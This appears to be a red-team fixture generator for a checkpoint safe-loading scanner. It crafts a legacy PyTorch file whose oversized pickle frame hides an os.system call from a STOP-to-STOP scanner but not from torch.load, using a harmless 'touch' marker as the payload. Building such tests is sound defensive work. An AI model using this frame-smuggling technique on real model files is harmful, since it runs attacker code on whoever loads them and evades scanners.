"""A legacy torch.save file whose first pickle's FRAME runs past its STOP.

pickle.load on a file reads a frame of 8 KiB or more whole, so torch.load's next pickle starts at
the frame's end, inside what a STOP-to-STOP reading takes for storage data. Run with Debian's
python3 (torch 1.13): python3 make_legacy_frame_fixtures.py [--prove]
"""
import io, os, pickle, struct, sys
import torch
MARK = '/tmp/safeload-redteam-pwned'
OUT = os.path.dirname(os.path.abspath(__file__))
def evil_obj_pickle():
    cmd = ('touch ' + MARK).encode()
    return b'\x80\x02cos\nsystem\nq\x00X' + struct.pack('<I', len(cmd)) + cmd + b'\x85R.'
# gate's view: a real legacy checkpoint of one 4096-float tensor
b = io.BytesIO(); torch.save(torch.zeros(4096), b, _use_new_zipfile_serialization=False); G = b.getvalue()
magic = pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2)          # \x80\x02\x8a\x0a...\x2e
assert G.startswith(magic)
rest = G[len(magic):]
data_start = len(G) - 4096 * 4                                     # storage bytes of the gate's view
# torch's view: the protocol, sys_info pickles copied from G, an object pickle that runs code, no keys
tail_pickles = []
f = io.BytesIO(rest)
for _ in range(2):
    start = f.tell(); pickle.load(f); tail_pickles.append(rest[start:f.tell()])
torch_view = b''.join(tail_pickles) + evil_obj_pickle() + pickle.dumps([], protocol=2)
# first pickle: PROTO 2, FRAME L, magic body, STOP; the frame runs on into the storage data
body = magic[2:]                                                   # \x8a\x0a<10 bytes>.
head_len = 2 + 9
d = 9000                                                           # frame end this far into the storage data
new_data_start = head_len + len(body) + len(rest) - 4096 * 4
L = new_data_start + d - head_len
assert L >= 8192
out = bytearray(b'\x80\x02\x95' + struct.pack('<Q', L) + body + rest)
pos = head_len + L
out[pos:pos + len(torch_view)] = torch_view
assert len(out) == head_len + len(body) + len(rest)
open(os.path.join(OUT, 'legacy_frame_runs_past_stop.pt'), 'wb').write(bytes(out))
# the same frame trick with a harmless object pickle in torch's view (still two readings: refused)
tv = b''.join(tail_pickles) + pickle.dumps({'epoch': 3}, protocol=2) + pickle.dumps([], protocol=2)
out2 = bytearray(out); out2[pos:pos + len(torch_view)] = b'\0' * len(torch_view); out2[pos:pos + len(tv)] = tv
open(os.path.join(OUT, 'legacy_frame_runs_past_stop_harmless.pt'), 'wb').write(bytes(out2))

# the twin: the checkpoint as torch.save wrote it, which loads
open(os.path.join(OUT, 'legacy_plain_twin.pt'), 'wb').write(G)

if '--prove' in sys.argv:
    for name in ['legacy_frame_runs_past_stop.pt', 'legacy_frame_runs_past_stop_harmless.pt', 'legacy_plain_twin.pt']:
        if os.path.exists(MARK):
            os.remove(MARK)
        r = torch.load(os.path.join(OUT, name))
        print(f'{name:40s} payload ran={os.path.exists(MARK)} -> {str(r)[:40]}')
